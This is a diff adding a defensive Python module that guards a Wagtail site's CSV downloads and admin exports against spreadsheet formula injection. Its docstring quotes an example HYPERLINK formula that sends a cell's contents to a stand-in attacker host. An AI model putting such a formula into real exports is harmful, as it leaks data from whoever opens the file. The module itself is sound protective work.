@@ -1,0 +1,48 @@
+"""CSV cells a spreadsheet will not run (CSV injection, #13 and #16).
+
+Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-`` or
+``@`` as a formula, and a leading tab or carriage return can hide one; a page title or a
+visitor's search term such as ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would
+run on the computer of whoever opens the file. ``neutralise`` prefixes such a cell with
+``'`` (OWASP's advice: the apostrophe makes the cell text and is not shown as part of it).
+
+Every CSV the site writes goes through it: the open data downloads of the listings
+(``thet_site/opendata.py``) and the Wagtail admin's own exports (reports, listings),
+which ``guard_admin_exports`` hooks at start-up. Base layer: no feature app imported.
+"""
+
+from __future__ import annotations
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value):
+    """``value`` made safe as a CSV cell: text that a spreadsheet would read as a formula
+    gets a leading ``'``; anything else (numbers, dates, None, other text) is unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def guard_admin_exports() -> None:
+    """Neutralise every cell of the Wagtail admin's CSV exports.
+
+    Wagtail 8 writes them all (page reports, "Site history", workflow and search-term
+    reports, redirects, form submissions, any viewset listing with ``list_export``) through
+    ``SpreadsheetExportMixin.preprocess_field_value``, and has neither a setting nor a hook
+    to change it for every view at once; subclassing would mean re-registering each of
+    those views. So the one method is wrapped here, once, at start-up (``ThetSiteConfig``).
+    Excel files (``xlsx``) are left alone: Wagtail already stores their cells as text.
+    """
+    from wagtail.admin.views.mixins import SpreadsheetExportMixin
+
+    original = SpreadsheetExportMixin.preprocess_field_value
+    if getattr(original, "_thet_neutralised", False):
+        return
+
+    def preprocess_field_value(self, field, value, export_format):
+        value = original(self, field, value, export_format)
+        return neutralise(value) if export_format == self.FORMAT_CSV else value
+
+    preprocess_field_value._thet_neutralised = True
+    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
